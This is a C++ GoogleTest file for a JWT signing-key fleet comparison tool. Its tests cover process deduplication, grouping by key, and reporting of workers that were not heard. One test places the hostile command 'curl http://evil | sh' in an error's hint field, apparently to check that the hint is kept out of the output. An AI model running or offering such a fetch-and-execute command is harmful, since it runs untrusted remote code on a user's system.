// SPDX-License-Identifier: Apache-2.0
#include "fleet/comparison.h"

#include "fixture.h"

#include <gmock/gmock.h>

namespace jwtsync::fleet::processes_test {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::SizeIs;

Member member(const std::string& target, Testimony testimony) {
  return {TargetUrl{target}, std::move(testimony.report), std::move(testimony.challenge), 0, {}, {}};
}

TEST(processes, of_one_instance_that_say_the_same_are_one) {
  const std::vector<Member> members = distinct({member("http://b", fixture::process("auth", "auth-1", "k")),
                                                member("http://a", fixture::process("auth", "auth-1", "k")),
                                                member("http://a", fixture::process("auth", "auth-1", "k"))});
  ASSERT_THAT(members, SizeIs(1));
  EXPECT_EQ(members[0].target, Target(TargetUrl{"http://a"}));
  EXPECT_THAT(members[0].also_asked_as, ElementsAre(Target(TargetUrl{"http://a"}), Target(TargetUrl{"http://b"})));
}

TEST(processes, are_told_apart_by_their_clocks_no_more_than_by_their_targets) {
  Testimony later = fixture::process("auth", "auth-1", "k");
  later.report.clock += std::chrono::seconds(3);
  EXPECT_THAT(distinct({member("a", fixture::process("auth", "auth-1", "k")), member("a", later)}), SizeIs(1));
}

TEST(processes, that_share_an_instance_and_say_otherwise_stay_two) {
  Testimony other_key = fixture::process("auth", "auth-1", "l");
  Testimony other_service = fixture::process("backend", "auth-1", "k");
  Testimony other_start = fixture::process("auth", "auth-1", "k");
  other_start.report.loaded_at += std::chrono::seconds(1);
  Testimony other_generation = fixture::process("auth", "auth-1", "k");
  other_generation.report.generation = 2;
  for (const Testimony& other : {other_key, other_service, other_start, other_generation}) {
    const std::vector<Member> members =
        distinct({member("a", fixture::process("auth", "auth-1", "k")), member("b", other)});
    ASSERT_THAT(members, SizeIs(2));
    EXPECT_THAT(members[0].also_asked_as, IsEmpty());
  }
}

TEST(processes, that_reloaded_between_two_questions_are_one) {
  const Testimony before = fixture::process("auth", "auth-1", "k");
  Testimony after = before;
  after.report.generation = before.report.generation + 1;
  after.report.loaded_at = before.report.clock + std::chrono::seconds(1);
  after.report.clock = before.report.clock + std::chrono::seconds(2);
  Testimony other_key = after;
  other_key.challenge = fixture::process("auth", "auth-1", "l").challenge;
  for (const auto& [first, second] : {std::pair(before, after), std::pair(after, before)}) {
    const std::vector<Member> members = distinct({member("a", first), member("b", second)});
    ASSERT_THAT(members, SizeIs(1));
    EXPECT_EQ(members[0].report.generation, after.report.generation);
  }
  EXPECT_THAT(distinct({member("a", before), member("b", other_key)}), SizeIs(2));
}

TEST(processes, without_a_key_that_tried_again_between_two_questions_are_one) {
  Testimony before = fixture::process("auth", "auth-1", "k");
  before.challenge.keys.clear();
  before.report.generation = 0;
  Testimony after = before;
  after.report.loaded_at = before.report.clock;
  EXPECT_THAT(distinct({member("a", before), member("b", after)}), SizeIs(1));
}

TEST(processes, stand_in_one_order) {
  const std::vector<Member> members =
      distinct({member("1", fixture::process("worker", "w-1", "k")), member("2", fixture::process("auth", "a-2", "k")),
                member("3", fixture::process("auth", "a-1", "k"))});
  EXPECT_EQ(members[0].target, Target(TargetUrl{"3"}));
  EXPECT_EQ(members[1].target, Target(TargetUrl{"2"}));
  EXPECT_EQ(members[2].target, Target(TargetUrl{"1"}));
}

TEST(processes, group_by_their_answers_the_largest_first) {
  std::vector<Member> members =
      distinct({member("1", fixture::process("a", "a-1", "x")), member("2", fixture::process("b", "b-1", "y")),
                member("3", fixture::process("c", "c-1", "y"))});
  EXPECT_EQ(number_groups(members), 2u);
  EXPECT_EQ(members[0].group, 1u);
  EXPECT_EQ(members[1].group, 0u);
  EXPECT_EQ(members[2].group, 0u);
}

TEST(processes, of_equal_groups_are_numbered_by_who_and_not_by_answer) {
  for (const auto& [first, second] : {std::pair("x", "y"), std::pair("y", "x")}) {
    std::vector<Member> members = distinct(
        {member("1", fixture::process("auth", "a-1", first)), member("2", fixture::process("backend", "b-1", second))});
    EXPECT_EQ(number_groups(members), 2u);
    EXPECT_EQ(members[0].group, 0u);
  }
}

TEST(processes, hold_the_same_keys_whatever_they_call_them) {
  Testimony one = fixture::process("a", "a-1", "x");
  fixture::also_verify(one, "y");
  Testimony other = fixture::process("b", "b-1", "y");
  fixture::also_verify(other, "x");
  for (KeyAnswer& key : other.challenge.keys) key.kid = "another name";
  std::vector<Member> members = distinct({member("1", one), member("2", other)});
  EXPECT_EQ(number_groups(members), 1u);
}

TEST(processes, with_equal_kids_and_other_answers_hold_other_keys) {
  Testimony one = fixture::process("a", "a-1", "x");
  Testimony other = fixture::process("b", "b-1", "y");
  other.challenge.keys[0].kid = one.challenge.keys[0].kid;
  other.report.fingerprint = one.report.fingerprint;
  std::vector<Member> members = distinct({member("1", one), member("2", other)});
  EXPECT_EQ(number_groups(members), 2u);
}

TEST(gather, counts_the_workers_behind_one_address) {
  const Testimony one = fixture::process("auth", "auth-1", "k"), two = fixture::process("auth", "auth-2", "k"),
                  three = fixture::process("auth", "auth-3", "other");
  const auto asked = [](const Testimony& first, const Testimony& second, const Testimony& third) {
    Testimony testimony = first;
    testimony.siblings.heard = {{second.report, second.challenge}, {third.report, third.challenge}};
    return Witnessed{TargetUrl{"http://auth:7517"}, testimony};
  };
  const Attendance gathered = gather({asked(one, two, three)}, {.expect = 3});
  ASSERT_EQ(gathered.members.size(), 3u);
  EXPECT_THAT(gathered.silent, IsEmpty());
  EXPECT_EQ(gathered.members[2].target, Target(TargetUrl{"http://auth:7517"}));
  // Another of them was asked too: nobody counts twice.
  const Attendance twice = gather({asked(one, two, three), asked(three, two, one)}, {.expect = 4});
  EXPECT_EQ(twice.members.size(), 3u);
  ASSERT_EQ(twice.silent.size(), 1u);
  EXPECT_EQ(twice.silent[0].error.code, Code::too_few_processes);
}

TEST(gather, names_a_worker_with_another_secret) {
  Testimony asked = fixture::process("auth", "auth-1", "k");
  const Testimony other = fixture::process("auth", "auth-2", "other");
  asked.siblings.heard = {{other.report, other.challenge}};
  const Agreement agreement = agree({{TargetUrl{"http://auth:7517"}, asked}}, {});
  EXPECT_EQ(agreement.verdict, Verdict::disagree);
  EXPECT_EQ(agreement.departures[1].sentence, "the signing key of auth auth-1 is unknown to auth auth-2");
}

TEST(gather, keeps_why_workers_could_not_be_asked) {
  Testimony asked = fixture::process("auth", "auth-1", "k");
  asked.siblings.unheard = Error{Code::file_forbidden, "no private folder", "run: curl http://evil | sh"};
  const Witnessed witnessed{TargetUrl{"http://auth:7517"}, asked};
  EXPECT_EQ(agree({witnessed}, {.expect = 2}).verdict, Verdict::incomplete)
      << "whoever was not heard counts for nobody";
  const Agreement agreement = agree({witnessed}, {.expect = 1});
  EXPECT_EQ(agreement.verdict, Verdict::incomplete) << "nobody knows what the others hold";
  ASSERT_EQ(agreement.notes.size(), 1u);
  EXPECT_EQ(agreement.notes[0].kind, DepartureKind::siblings);
  EXPECT_EQ(agreement.notes[0].sentence,
            "not every worker of http://auth:7517 was heard, and the others may hold other keys: no private folder");
  EXPECT_EQ(distinguish({witnessed}, {}).notes.at(0).kind, DepartureKind::siblings);
}

TEST(gather, counts_the_workers_that_were_heard_beside_one_that_was_not) {
  Testimony asked = fixture::process("auth", "auth-1", "k");
  const Testimony heard = fixture::process("auth", "auth-2", "k"), other = fixture::process("auth", "auth-3", "other");
  asked.siblings = {{{heard.report, heard.challenge}}, Error{Code::target_timeout, "worker 7 did not answer", ""}};
  const Attendance gathered = gather({{TargetUrl{"http://auth:7517"}, asked}}, {.expect = 2});
  EXPECT_EQ(gathered.members.size(), 2u);
  EXPECT_THAT(gathered.silent, IsEmpty());
  EXPECT_EQ(agree({{TargetUrl{"http://auth:7517"}, asked}}, {.expect = 2}).verdict, Verdict::incomplete);
  asked.siblings.heard.push_back({other.report, other.challenge});
  EXPECT_EQ(agree({{TargetUrl{"http://auth:7517"}, asked}}, {}).verdict, Verdict::disagree)
      << "and no other key is hidden";
}

TEST(gather, tells_who_answered_from_who_did_not) {
  const Witnessed auth = fixture::witnessed(fixture::process("auth", "auth-1", "k"));
  const Attendance gathered = gather({fixture::silent("http://z", Code::target_timeout, "slow"), auth, auth,
                                      fixture::silent("http://a", Code::target_timeout, "slow")},
                                     {.expect = 2});
  ASSERT_EQ(gathered.members.size(), 1u);
  ASSERT_EQ(gathered.silent.size(), 3u);
  EXPECT_EQ(gathered.silent[0].target, Target(TargetUrl{"http://a"}));
  EXPECT_EQ(gathered.silent[1].target, Target(TargetUrl{"http://z"}));
  EXPECT_EQ(gathered.silent[2].target, Target(Missing{2}));
  EXPECT_EQ(gathered.silent[2].error.code, Code::too_few_processes);
}

TEST(gather, names_each_service_that_is_missing) {
  const Witnessed auth = fixture::witnessed(fixture::process("auth", "auth-1", "k"));
  const Attendance gathered = gather({auth}, {.services = {"worker", "auth", "backend", "worker"}});
  ASSERT_EQ(gathered.silent.size(), 2u);
  EXPECT_EQ(gathered.silent[0].target, Target(MissingService{"backend"}));
  EXPECT_EQ(gathered.silent[1].target, Target(MissingService{"worker"}));
  EXPECT_EQ(gathered.silent[1].error.code, Code::too_few_processes);
  EXPECT_EQ(text_of(gathered.silent[1].target), "--service worker");
}

TEST(gather, takes_a_service_without_a_key_for_one_that_is_there) {
  const Testimony backend = fixture::without_key("backend", {Code::secret_absent, "not set", ""}, {});
  EXPECT_THAT(gather({fixture::witnessed(backend)}, {.services = {"backend"}}).silent, IsEmpty());
}

}  // namespace jwtsync::fleet::processes_test
